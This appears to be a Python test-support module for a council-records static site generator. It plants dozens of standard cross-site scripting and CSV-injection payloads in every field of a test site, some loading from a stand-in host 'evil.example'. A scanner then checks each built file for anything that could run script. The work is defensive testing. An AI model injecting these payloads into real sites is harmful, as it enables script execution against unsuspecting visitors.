"""Hostile content for the security tests: well-known cross-site scripting payloads, a site
that carries them in every field that reaches a page, and a scanner that reads every file
of a built site the way a browser, a feed reader, a calendar app or a spreadsheet would
and lists whatever could run script.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import icalendar
import pytest
import yaml
from bs4 import BeautifulSoup, Tag
from conftest import build_for_module, make_site

# --- Payloads ------------------------------------------------------------------------------------

# One line each, for fields written in front matter (titles, names, venues, roles ...).
LINE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=https://evil.example/x.png onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '"><script>alert(1)</script>',
    "'><img src=https://evil.example/x.png onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "{{ 7*7 }} {% raw %}",
    "javascript:alert(1)",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "Zo\u00eb\u2019s caf\u00e9 \u2013 \u201cquoted\u201d \u00a35 \u00bd \u4e2d\u6587 \U0001f642",
]
LINE = " ".join(LINE_PAYLOADS)

# Blocks of Markdown, for bodies: item text, resolutions, reasons, remits, biographies, reports.
MARKDOWN_PAYLOADS = LINE_PAYLOADS + [
    "[x](JAVASCRIPT:alert(1) \"t\")",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x]( javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "<a href=\"&#x6A;avascript&colon;alert(1)\">colon</a>",
    '<a href=" javascript:alert(1)">space</a>',
    '<a data-xref="PC1" href="javascript:alert(1)">placeholder</a>',
    '<a data-xref="PC1" onclick="alert(1)">placeholder</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>svg link</text></a></svg>",
    "<math href=\"javascript:alert(1)\">math link</math>",
    "<img src=\"https://example.org/x.png\" onerror=\"alert(1)\" style=\"width:100px\">",
    "<table><tr><td background=\"javascript:alert(1)\">cell</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=https://evil.example/x.png onerror=alert(1)>\"></noscript>",
    "| a | b |\n|:--|--:|\n| <script>alert(1)</script> | <img src=https://evil.example/x.png onerror=alert(1)> |",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
]
# The sanitiser drops the content of <script> and <style> with the element: left open, they take
# the rest of their fragment with them. They go last, so that the payloads before them are seen.
UNCLOSED = [
    "<style>p{}",
    "<math><mtext><table><mglyph><style><img src=https://evil.example/x.png onerror=alert(1)>",
    "<script>alert(1)",
    "<a href=\"javascript:alert(1)\"",
]
MARKDOWN_PAYLOADS = [p for p in MARKDOWN_PAYLOADS if p not in UNCLOSED] + UNCLOSED
SEEN = len(MARKDOWN_PAYLOADS) - len(UNCLOSED)  # the payloads a block's text shows the sentences of


def markdown_block(label: str) -> str:
    """Every Markdown payload as a paragraph of its own, each also inside a sentence."""
    parts = [f"{label} begins."]
    for number, payload in enumerate(MARKDOWN_PAYLOADS):
        parts.append(payload)
        if "\n" not in payload:
            parts.append(f"{label} {number}: before {payload} after.")
    return "\n\n".join(parts) + "\n"


def payload_items(first: int) -> str:
    """One agenda item per Markdown payload, so that each is rendered on its own."""
    return "".join(f"## PC{first + number} Payload {number}\n\nPAYLOAD-{number} begins.\n\n{payload}\n\n"
                   + ("" if "\n" in payload else f"PAYLOAD-{number}: before {payload} after.\n\n")
                   for number, payload in enumerate(MARKDOWN_PAYLOADS))


def _front(values: dict[str, Any], body: str = "") -> str:
    return "---\n" + yaml.safe_dump(values, allow_unicode=True, sort_keys=False, width=10**6) + "---\n" + body


# What a reader must still see, as text, where it belongs: URL -> values.
# Filled in by hostile_site; each value carries a label so that it cannot be matched by chance.
def labelled(label: str) -> str:
    return f"{label} {LINE}"


SITE_TITLE = labelled("SITE-TITLE")
MEETING = "content/meetings/planning-committee/2020-02-12/index.md"
MEETING_URL = "/boards/planning-committee/2020-02-12/"


def hostile_site(target: Path) -> tuple[Path, dict[str, list[str]]]:
    """The minimal site with a payload in every field that reaches a page; and where each
    field's text must still be visible (URL -> texts)."""
    v = {name: labelled(name) for name in (
        "ORGANISATION", "CONTACT", "LICENCE",
        "PERSON-NAME", "HONORIFIC", "PARTY", "WARD", "POSITION",
        "BOARD-NAME", "BOARD-VENUE", "BOARD-CONTACT", "MEMBER-ROLE",
        "MEETING-TITLE", "MEETING-VENUE", "PRESENT-ROLE", "ATTENDEE-NAME", "ATTENDEE-ROLE",
        "INTEREST", "NOTE", "DOCUMENT-TITLE", "LINK-TITLE", "MEDIA-TITLE",
        "ITEM-TITLE", "DECISION-MAKER", "CALL-IN", "ITEM-WARD", "TITLE-ONLY",
        "REPORT-TITLE", "AUTHOR", "PORTFOLIO", "REPORT-WARD",
    )}
    site_yaml = yaml.safe_dump({
        "title": SITE_TITLE,
        "organisation": "example",
        "organisations": {"example": v["ORGANISATION"]},
        "base_url": "https://example.org/records/",
        "contact": v["CONTACT"],
        "licence": v["LICENCE"],
    }, allow_unicode=True, sort_keys=False, width=10**6)
    person = _front({"name": v["PERSON-NAME"], "honorific": v["HONORIFIC"], "party": v["PARTY"], "ward": v["WARD"],
                     "role": "councillor", "position": v["POSITION"]}, markdown_block("BIOGRAPHY"))
    board = _front({"name": v["BOARD-NAME"], "kind": "committee", "minute_prefix": "PC", "venue": v["BOARD-VENUE"],
                    "contact": v["BOARD-CONTACT"], "start": "18:30",
                    "members": [{"person": "jane-smith", "role": v["MEMBER-ROLE"]}, {"person": "omar-khan"}]},
                   markdown_block("REMIT"))
    evil_url = 'https://example.org/watch?v=1&x="><script>alert(1)</script>&y=\' onmouseover=\'alert(1)'
    meeting = _front({
        "date": dt.date(2020, 2, 12),
        "title": v["MEETING-TITLE"],
        "start": "18:30",
        "venue": v["MEETING-VENUE"],
        "status": "held",
        "minutes": "draft",
        "present": [{"person": "jane-smith", "role": v["PRESENT-ROLE"]}, "omar-khan"],
        "in_attendance": [{"name": v["ATTENDEE-NAME"], "role": v["ATTENDEE-ROLE"]}],
        "declarations": [{"person": "jane-smith", "item": "PC3", "interest": v["INTEREST"], "note": v["NOTE"]}],
        "documents": [
            {"title": v["DOCUMENT-TITLE"], "file": "site-plan.pdf", "item": "PC3"},
            {"title": v["LINK-TITLE"], "url": evil_url, "item": "PC3"},
            {"file": "valuation.md", "item": "PC4"},
        ],
        "media": [{"title": v["MEDIA-TITLE"], "url": evil_url, "kind": "video"}],
        "items": {"PC3": {"key_decision": True, "decision_maker": v["DECISION-MAKER"],
                          "call_in": {"deadline": dt.date(2020, 2, 19), "status": v["CALL-IN"]},
                          "wards": [v["ITEM-WARD"]], "matter": "mill-lane", "media_offset": "00:01:02"}},
    }, "\n".join([
        markdown_block("INTRO"),
        f"## PC3 {v['ITEM-TITLE']} {{.key-decision}}",
        "",
        ("See [[PC1|<img src=https://evil.example/x.png onerror=alert(1)> \"><script>alert(1)</script>]] and "
         "[[people/jane-smith|javascript:alert(1)]] and [[planning-committee/2020-01-15#PC2]]."),
        "",
        markdown_block("ITEM-TEXT"),
        "### Reasons for decision",
        "",
        markdown_block("REASONS"),
        "### Alternative options considered and rejected",
        "",
        markdown_block("ALTERNATIVES"),
        "RESOLVED: That",
        "",
        "1. <script>alert(1)</script> the plan be approved; <img src=https://evil.example/x.png onerror=alert(1)>",
        "2. [x](javascript:alert(1)) and <a href=\"vbscript:msgbox(1)\">y</a> be noted.",
        "",
        f"## PC4 {v['TITLE-ONLY']}",
        "",
        "RESOLVED: That the report be noted. <iframe src=javascript:alert(1)></iframe>",
        "",
        payload_items(10),
    ]))
    report = _front({"title": v["REPORT-TITLE"], "item": "PC4", "author": v["AUTHOR"], "portfolio": v["PORTFOLIO"],
                     "wards": [v["REPORT-WARD"]], "date": dt.date(2020, 2, 12)}, markdown_block("REPORT-BODY"))
    site = make_site(target, {
        "site.yaml": site_yaml,
        "content/people/jane-smith.md": person,
        "content/boards/planning-committee.md": board,
        MEETING: meeting,
        "content/meetings/planning-committee/2020-02-12/site-plan.pdf": b"%PDF-1.4\n%%EOF\n",
        "content/meetings/planning-committee/2020-02-12/valuation.md": report,
    })
    decision = MEETING_URL + "pc3/"
    visible = {
        "/": [v["ORGANISATION"], v["CONTACT"], v["LICENCE"], SITE_TITLE],
        "/people/jane-smith/": [v["PERSON-NAME"], v["HONORIFIC"], v["PARTY"], v["WARD"], v["POSITION"]],
        "/boards/planning-committee/": [v["BOARD-NAME"], v["BOARD-VENUE"], v["BOARD-CONTACT"], v["MEMBER-ROLE"]],
        MEETING_URL: [v["MEETING-TITLE"], v["MEETING-VENUE"], v["PRESENT-ROLE"], v["ATTENDEE-NAME"], v["ATTENDEE-ROLE"],
                      v["INTEREST"], v["NOTE"], v["DOCUMENT-TITLE"], v["LINK-TITLE"], v["MEDIA-TITLE"], v["ITEM-TITLE"],
                      v["TITLE-ONLY"], v["REPORT-TITLE"]],
        decision: [v["ITEM-TITLE"], v["DECISION-MAKER"], v["CALL-IN"], v["ITEM-WARD"]],
        MEETING_URL + "reports/valuation/": [v["REPORT-TITLE"], v["AUTHOR"], v["PORTFOLIO"], v["REPORT-WARD"]],
    }
    return site, visible


# --- Scanning a built site -------------------------------------------------------------------------

BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "srcset", "data",
                  "ping", "cite", "longdesc", "manifest", "codebase", "lowsrc", "dynsrc"}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "style", "base", "form", "foreignobject",
         "template", "portal", "math", "button", "input", "textarea", "select", "isindex"}
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def scheme_of(url: str) -> str:
    """The scheme a browser would see: controls and whitespace are ignored, case folded."""
    cleaned = _CONTROL.sub("", url).lower()
    return cleaned.split(":", 1)[0] + ":" if ":" in cleaned.split("/", 1)[0] else ""


def bad_url(url: str) -> bool:
    if url.strip() == "data:,":  # the empty icon every page names, so browsers ask for no favicon
        return False
    return scheme_of(url) in BAD_SCHEMES


def html_problems(where: str, markup: str, own_scripts: bool = True) -> list[str]:
    """What in an HTML document could run script or load something it should not."""
    soup = BeautifulSoup(markup, "html.parser")
    problems: list[str] = []
    for element in soup.find_all(True):
        name = element.name.lower()
        if name == "script":
            problems += _script_problems(where, element, own_scripts)
        elif name in NEVER and not _in_site_search(element):
            problems.append(f"{where}: a <{name}> element")
        elif name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh" and not _moves_on(element):
            problems.append(f"{where}: a meta refresh")
        elif name == "link" and any(r.lower() in ("import", "preload", "prefetch", "modulepreload")
                                    for r in element.get("rel") or []):
            problems.append(f"{where}: a <link rel={element.get('rel')}>")
        elif name == "svg" and not _is_chart(element):
            problems.append(f"{where}: an <svg> that is not one of the site's charts")
        for attribute, value in element.attrs.items():
            attribute = attribute.lower()
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                problems.append(f"{where}: an event handler {attribute}={text!r} on <{name}>")
            if attribute == "style":
                problems.append(f"{where}: a style attribute on <{name}>")
            if attribute in URL_ATTRIBUTES and bad_url(text):
                problems.append(f"{where}: <{name} {attribute}={text!r}>")
    return problems


def _in_site_search(element: Tag) -> bool:
    """The home page's own search box: a form of the template that opens the site's search page."""
    form = element if element.name == "form" else element.find_parent("form")
    return (form is not None and form.get("role") == "search" and "search-form" in (form.get("class") or [])
            and re.fullmatch(r"(\.\./)*search/", form.get("action", "")) is not None
            and all(child.name in ("label", "div", "input", "button") for child in form.find_all(True)))


def _moves_on(meta: Tag) -> bool:
    """The page at an old address of a record (its aliases) sends readers on to a page of the site."""
    delay, _, target = str(meta.get("content", "")).partition(";")
    url = target.strip().removeprefix("url=")
    return meta.find_parent("head") is not None and delay == "0" and not urlsplit(url).scheme and not url.startswith("/")


def _is_chart(svg: Tag) -> bool:
    """The site's own bar charts: an <svg> of shapes and text, with no links, scripts or foreign content."""
    allowed = {"svg", "title", "desc", "g", "rect", "text", "line", "path", "tspan"}
    return all(child.name in allowed for child in svg.find_all(True))


def _script_problems(where: str, script: Tag, own_scripts: bool) -> list[str]:
    src = script.get("src")
    kind = (script.get("type") or "").lower()
    if src is not None:
        path = urlsplit(src).path
        if own_scripts and not urlsplit(src).scheme and re.search(r"(^|/)(static|pagefind/[\w-]+)/[\w.-]+\.js$", path):
            return []
        return [f"{where}: a script from {src!r}"]
    if kind == "application/ld+json" and own_scripts:
        body = script.string or ""
        if "<" in body:
            return [f"{where}: JSON-LD holding a raw '<'"]
        try:
            json.loads(body)
        except ValueError:
            return [f"{where}: JSON-LD that is not JSON: {body[:80]!r}"]
        return []
    return [f"{where}: an inline script {str(script)[:80]!r}"]


def feed_problems(where: str, data: bytes) -> list[str]:
    problems = []
    atom = "{http://www.w3.org/2005/Atom}"
    root = ET.fromstring(data)
    for element in root.iter():
        for attribute in ("href", "src", "uri"):
            if attribute in element.attrib and bad_url(element.attrib[attribute]):
                problems.append(f"{where}: <{element.tag} {attribute}={element.attrib[attribute]!r}>")
        if element.tag in (f"{atom}uri", f"{atom}id", f"{atom}icon", f"{atom}logo") and bad_url(element.text or ""):
            problems.append(f"{where}: {element.tag} {element.text!r}")
        kind = element.attrib.get("type")
        if kind in ("html", "xhtml"):
            fragment = element.text or "" if kind == "html" else ET.tostring(element, encoding="unicode")
            problems += html_problems(f"{where} <{element.tag.removeprefix(atom)}>", fragment, own_scripts=False)
        elif kind not in (None, "text", "text/html", "application/atom+xml"):
            problems.append(f"{where}: content of type {kind}")
    return problems


def calendar_problems(where: str, data: bytes) -> list[str]:
    problems = []
    calendar = icalendar.Calendar.from_ical(data)
    for component in calendar.walk():
        for name, value in component.property_items(recursive=False):
            if name in ("URL", "ATTACH", "SOURCE", "TZURL") and bad_url(str(value.to_ical().decode()
                                                                            if hasattr(value, "to_ical") else value)):
                problems.append(f"{where}: {name} {value!r}")
            if name.startswith("X-ALT-DESC") or "HTML" in str(getattr(value, "params", {}).get("FMTTYPE", "")).upper():
                problems.append(f"{where}: HTML in {name}")
    return problems


def json_problems(where: str, value: Any, key: str = "") -> list[str]:
    problems = []
    if isinstance(value, dict):
        for k, v in value.items():
            problems += json_problems(where, v, str(k))
    elif isinstance(value, list):
        for v in value:
            problems += json_problems(where, v, key)
    elif isinstance(value, str) and (key.lower() in ("url", "href", "src", "@id", "id", "link", "uri")
                                     or key.lower().endswith("url")) and bad_url(value):
        problems.append(f"{where}: {key} = {value!r}")
    return problems


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_problems(where: str, data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (CSV injection), and links that are not web addresses."""
    problems = []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row):
            if cell.startswith(FORMULA_START):
                problems.append(f"{where}: {name} starts a formula: {cell[:40]!r}")
            if name.lower() in ("url", "link") and not cell.startswith(("https://", "http://")):
                problems.append(f"{where}: {name} = {cell!r}")
    return problems


def sitemap_problems(where: str, data: bytes, base_url: str) -> list[str]:
    root = ET.fromstring(data)
    return [f"{where}: {element.text!r}" for element in root.iter() if element.tag.endswith("}loc")
            and not (element.text or "").startswith(base_url)]


def output_files(output: Path) -> Iterator[tuple[str, Path]]:
    for path in sorted(output.rglob("*")):
        if path.is_file():
            yield path.relative_to(output).as_posix(), path


def scan_output(output: Path, base_url: str = "https://example.org/records/", csv_formulas: bool = True) -> list[str]:
    """Everything in a built site that could run script, as readable problems (none expected)."""
    problems: list[str] = []
    for rel, path in output_files(output):
        data = path.read_bytes()
        if rel.endswith(".html"):
            problems += html_problems(rel, data.decode("utf-8"))
        elif rel == "sitemap.xml":
            problems += sitemap_problems(rel, data, base_url)
        elif rel.endswith(".xml"):
            problems += feed_problems(rel, data)
        elif rel.endswith(".ics"):
            problems += calendar_problems(rel, data)
        elif rel.endswith(".json") and rel.startswith("data/"):
            problems += json_problems(rel, json.loads(data))
        elif rel.endswith(".csv") and csv_formulas:
            problems += csv_problems(rel, data)
        elif rel.endswith(".pf_fragment"):
            problems += json_problems(rel, pagefind_fragment(data))
    return problems


def pagefind_fragment(data: bytes) -> Any:
    """A Pagefind fragment: gzip, then a "pagefind_dcd" signature, then JSON."""
    text = gzip.decompress(data)
    return json.loads(text[text.index(b"{"):])


def pagefind_text(output: Path) -> str:
    """Everything in the search index that can hold words from the pages, decompressed."""
    texts = []
    for rel, path in output_files(output / "pagefind"):
        data = path.read_bytes()
        if data[:2] == b"\x1f\x8b":
            data = gzip.decompress(data)
        texts.append(data.decode("utf-8", errors="replace"))
    return "\n".join(texts)


_BUILT: dict[str, tuple[Path, dict[str, list[str]]]] = {}


def build_hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list[str]]]:
    """The hostile site, built once per session with its search index: (output, texts each page must show).
    For a session-scoped fixture in each module that uses it."""
    if "built" not in _BUILT:
        site, visible = hostile_site(tmp_path_factory.mktemp("hostile-site"))
        _BUILT["built"] = build_for_module(tmp_path_factory, "hostile", site), visible
    return _BUILT["built"]
